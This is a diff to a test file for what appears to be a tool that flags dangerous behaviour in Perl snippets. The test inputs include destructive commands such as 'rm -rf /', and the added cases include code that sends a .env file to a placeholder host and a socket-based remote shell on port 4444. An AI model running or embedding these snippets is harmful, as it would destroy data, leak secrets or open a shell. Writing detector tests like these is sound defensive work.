@@ -23,6 +23,12 @@ describe("what is caught", () => {
     'my $d = "x"; system("rm -rf $d/y")': ["runs shell: rm -rf x/y"],
     "system 'rm', '-rf', '/'": ["runs: rm -rf /"],
     "system qw(rm -rf /x)": ["runs: rm -rf /x"],
+    'my $s = IO::Socket::INET->new("h:80"); open(F, ".env"); print $s <F>': [
+      "connect tcp://h:80 fetch sends[.env body] checked",
+      "read .env shows",
+    ],
+    'if ($a < $b) { unlink "x" }': ["delete x"],
+    '$c = new IO::Socket::INET(PeerAddr, "h:4444"); STDIN->fdopen($c, r)': ["connect tcp://h:4444 shell checked"],
     'exec "ls", "-l"': ["runs: ls -l"],
     "print `id`": ["runs shell: id"],
     "my $x = qx{rm -rf ~};": ["runs shell: rm -rf ~"],
